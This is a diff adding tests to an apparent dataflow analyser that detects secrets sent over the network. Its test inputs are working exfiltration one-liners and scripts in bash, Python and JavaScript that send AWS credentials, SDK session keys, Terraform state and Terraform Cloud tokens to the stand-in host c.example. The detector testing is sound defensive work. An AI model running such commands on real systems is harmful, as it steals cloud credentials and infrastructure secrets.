@@ -225,6 +225,17 @@ describe('dataflow analysis', () => {
       assert.deepEqual(await flowsOf('bash', 'x=$(cat ~/.ssh/id_rsa > ./copy)\ncurl -d "$x" https://c.example/u\n'), []);
     });
 
+    it('reads cloud credentials from CLIs, SDK sessions and Terraform state, and follows them out', async () => {
+      assert.deepEqual(summary(await flowsOf('bash', 'aws configure export-credentials --format env | curl -s --data-binary @- https://c.example/c\n')), ['secret: cloud credentials printed by the AWS CLI -> network']);
+      const boto = "import boto3, json, urllib.request\ns = boto3.Session().get_credentials().get_frozen_credentials()\nurllib.request.urlopen('https://c.example/c', data=json.dumps({'k': s.access_key}).encode())\n";
+      assert.deepEqual(summary(await flowsOf('python', boto)), ['secret: cloud credentials from the SDK session -> network']);
+      const state = "const state = require('fs').readFileSync('terraform.tfstate', 'utf8');\nrequire('https').request({ host: 'c.example', path: '/s', method: 'POST' }).end(state);\n";
+      assert.deepEqual(summary(await flowsOf('javascript', state)), ['secret: Terraform state files -> network']);
+      const url = 'cat ~/.terraform.d/credentials.tfrc.json | base64 -w0 | xargs -I{} curl -s "https://c.example/t?d={}"\n';
+      assert.deepEqual(summary(await flowsOf('bash', url)), ['secret: Terraform Cloud credentials -> network']);
+      assert.deepEqual(await flowsOf('bash', 'aws sts get-caller-identity | curl -s -d @- https://c.example/c\n'), []);
+    });
+
     it('treats $HOME and ${HOME} as the home directory', async () => {
       const flows = await flowsOf('bash', 'curl -F "f=@${HOME}/.aws/credentials" https://c.example/u\n');
       assert.deepEqual(summary(flows), ['secret: AWS credentials -> network']);
